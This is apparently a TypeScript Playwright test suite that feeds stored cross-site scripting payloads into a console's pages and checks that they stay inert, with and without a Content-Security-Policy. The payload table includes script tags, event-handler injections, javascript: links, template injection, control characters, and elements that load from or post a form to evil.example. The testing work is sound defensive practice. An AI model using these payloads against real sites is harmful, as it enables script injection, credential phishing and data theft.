/**
 * Stored cross-site scripting: whoever writes a ticket, a tool's name or a scope writes into these pages. Each text of an event is
 * hostile on every page, once behind the console's Content-Security-Policy, which reports whatever it had to stop, and once without it, so
 * that escaping stands alone.
 */
import assert from 'node:assert/strict'
import { test } from 'node:test'
import type { Page } from 'playwright-core'
import { type Looked, noBrowser, overflow, startBrowser, watchedPage } from '../support/browser.js'
import { asItIs, everyPage } from '../support/console-pages.js'
import { servePages } from '../support/page-server.js'

const hostile: Readonly<Record<string, string>> = {
  'a script': '<script>pwned(1)</script><script src=https://evil.example/x.js></script>',
  'a handler after a double quote': '"><img src=x onerror=pwned(1)><b onmouseover="pwned(1)">',
  'a handler after a single quote': "' autofocus onfocus=pwned(1) tabindex=1 style='position:fixed;inset:0' x='",
  'an address that is script': 'javascript:pwned(1)//',
  'the end of what stands around it':
    '</textarea></title></option></select></pre></svg></style></script>--><svg/onload=pwned(1)>',
  'elements that load':
    '<link rel=stylesheet href=//evil.example/x.css><iframe srcdoc="<script>parent.pwned(1)</script>">',
  'elements that lead away':
    '<meta http-equiv=refresh content="0;url=https://evil.example"><base href=//evil.example/>',
  'a form of its own': '</form><form action=https://evil.example method=post><input name=csrf><button autofocus>Log in',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what an attacker would try
  'template text': '{{constructor.constructor("pwned(1)")()}}${pwned(1)}<%= pwned(1) %>#{pwned(1)}',
  'references of characters': '&lt;script&gt;pwned(1)&lt;/script&gt;&#x3c;script&#x3e;pwned(1)',
  'Markdown and Slack links': '[x](javascript:pwned(1)) <https://evil.example|x> ![](https://evil.example/x.png)',
  'bidirectional controls': '\u202egnp.exe\u2066 \u2067evil\u2069 \u200f\u061c\u{e0041}\u200b',
  'controls of a terminal': '\u001b[31mred\u0007\u0000\u009b2J\u2028\u2029',
  'one long word': 'a'.repeat(3_000),
  'wide letters in one word': '﷽'.repeat(400),
  'marks piled up': 'Z\u0300\u0301\u0302\u0303\u0304\u0305'.repeat(100),
  'members of every object': '__proto__',
}

/** What a page of ours never holds, read from the elements that the browser made of it. */
const oddities = (page: Page): Promise<string[]> =>
  page.evaluate<string[]>(`(() => {
    const all = [...document.querySelectorAll('*')]
    const odd = []
    for (const element of all) {
      const name = element.localName
      if (['iframe', 'object', 'embed', 'base', 'style', 'img', 'video', 'audio', 'template'].includes(name)) odd.push('a ' + name)
      if (name === 'script' && element.getAttribute('src') !== '/assets/console.js') odd.push('a script')
      if (name === 'link' && !/^\\/assets\\//.test(element.getAttribute('href'))) odd.push('a link elsewhere')
      if (name === 'meta' && element.hasAttribute('http-equiv')) odd.push('a meta that acts')
      for (const { name: attribute, value } of element.attributes) {
        if (/^on/i.test(attribute) || attribute === 'style' || attribute === 'srcdoc') odd.push(name + ' with ' + attribute)
        if (['href', 'src', 'action', 'formaction', 'xlink:href'].includes(attribute)) {
          const url = new URL(value, location.href)
          const isOwn = url.origin === location.origin || url.origin === 'http://127.0.0.1:3000'
          if (!isOwn || !/^https?:$/.test(url.protocol)) odd.push(name + ' leads to ' + url.href.slice(0, 80))
        }
      }
    }
    // What a person types keeps what it is; what is shown holds nothing unseen.
    const texts = document.createTreeWalker(document, NodeFilter.SHOW_TEXT)
    for (let node = texts.nextNode(); node !== null; node = texts.nextNode()) {
      const where = node.parentElement?.localName + ' in ' + (node.parentElement?.closest('[id], form, header, [class]')?.outerHTML.slice(0, 60))
      if (node.parentElement?.localName === 'textarea') continue
      if (/[\\u202a-\\u202e\\u2066-\\u2069\\u200b-\\u200f\\u061c\\u{e0000}-\\u{e007f}]/u.test(node.data)) odd.push('unseen characters: ' + where)
      if (/[\\u0000-\\u0008\\u000b-\\u001f\\u007f-\\u009f]/.test(node.data)) odd.push('controls: ' + where)
    }
    return odd
  })()`)

/** All that is wrong with one page, in lines. */
async function faultsOf({ page, misdeeds, forget }: Looked, url: string): Promise<string[]> {
  forget()
  await page.goto(url)
  await page.evaluate('for (const one of document.querySelectorAll("details")) one.open = true')
  const odd = await oddities(page)
  const wider = await overflow(page)
  const { ran, left, reports, errors } = misdeeds
  return [
    ...odd,
    ...(wider === 0 ? [] : [`${wider} pixels wider than a phone`]),
    ...[...ran, ...left, ...reports, ...errors].map((misdeed) => `misdeed: ${misdeed}`),
    ...(page.url() === url ? [] : [`led away to ${page.url()}`]),
  ]
}

for (const guarded of [true, false]) {
  test(`hostile text stays text ${guarded ? 'and gives the policy nothing to stop' : 'with no policy at all'}`, {
    skip: noBrowser,
  }, async (t) => {
    const browser = await startBrowser()
    t.after(() => browser.close())
    for (const [what, text] of Object.entries(hostile).filter(([, text]) => guarded || text.includes('pwned'))) {
      await t.test(what, async (t) => {
        const pages = everyPage(() => text)
        const { origin, urlOf } = await servePages(t, pages, { unguarded: !guarded })
        const looked = await watchedPage(t, browser, { origin, screen: 'phone', scheme: 'light' })
        const faults: string[] = []
        for (const name of pages.keys())
          faults.push(...(await faultsOf(looked, urlOf(name))).map((fault) => `${name}: ${fault}`))
        assert.deepEqual(faults, [])
      })
    }
  })
}

test('hostile text makes no more and no other elements than harmless text does', { skip: noBrowser }, async (t) => {
  const browser = await startBrowser()
  t.after(() => browser.close())
  const countsOf = async (pages: ReadonlyMap<string, string>): Promise<Record<string, unknown>> => {
    const { origin, urlOf } = await servePages(t, pages)
    const { page } = await watchedPage(t, browser, { origin, screen: 'laptop', scheme: 'dark' })
    const counts: Record<string, unknown> = {}
    for (const name of pages.keys()) {
      await page.goto(urlOf(name))
      counts[name] = await page.evaluate(`(() => {
        const counts = {}
        for (const { localName } of document.querySelectorAll('*')) counts[localName] = (counts[localName] ?? 0) + 1
        return counts
      })()`)
    }
    return counts
  }
  // Words that differ as much as the plain ones do, so that nothing falls together.
  const harmless = await countsOf(everyPage((plain) => `word ${plain.length} ${plain}`))
  for (const key of ['a script', 'a handler after a double quote', 'a form of its own'])
    assert.deepEqual(await countsOf(everyPage((plain) => `${hostile[key]} ${plain.length} ${plain}`)), harmless, key)
})

test('the eyes of these tests are open: a page that does not escape is seen', { skip: noBrowser }, async (t) => {
  const browser = await startBrowser()
  t.after(() => browser.close())
  const page = (body: string): string => `<!doctype html><html lang="en"><title>x</title>${body}`
  const pages = new Map([
    ['script', page('<script>pwned("inline")</script>')],
    ['handler', page('<img src="data:," onerror="pwned(1)">')],
    ['away', page('<link rel="stylesheet" href="https://evil.example/x.css">')],
    ['link', page('<a href="javascript:pwned(1)">x</a>')],
    ['turned', page('<p>\u202egnp.exe</p>')],
    ['wide', page(`<p>${'a'.repeat(3_000)}</p>`)],
  ])
  for (const unguarded of [false, true]) {
    const { origin, urlOf } = await servePages(t, pages, { unguarded })
    const looked = await watchedPage(t, browser, { origin, screen: 'phone', scheme: 'light' })
    const see = async (name: string) => {
      looked.forget()
      await looked.page.goto(urlOf(name))
      await looked.page.waitForTimeout(100)
      const { ran, left, reports, errors } = looked.misdeeds
      return { ran: ran.length, left: left.length, reports: reports.length, errors: errors.length }
    }
    const script = await see('script')
    const handler = await see('handler')
    const away = await see('away')
    if (unguarded) {
      assert.ok(script.ran === 1 && handler.ran === 1 && away.left === 1)
    } else {
      assert.ok(script.ran === 0 && script.reports > 0 && handler.ran === 0 && handler.reports > 0 && away.reports > 0)
    }
    await see('link')
    assert.match(String(await oddities(looked.page)), /leads to javascript/)
    await see('turned')
    assert.match(String(await oddities(looked.page)), /^unseen characters: p/)
    await see('wide')
    assert.ok((await overflow(looked.page)) > 1_000)
  }
  assert.notDeepEqual(
    everyPage(asItIs),
    everyPage(() => 'other'),
  )
})
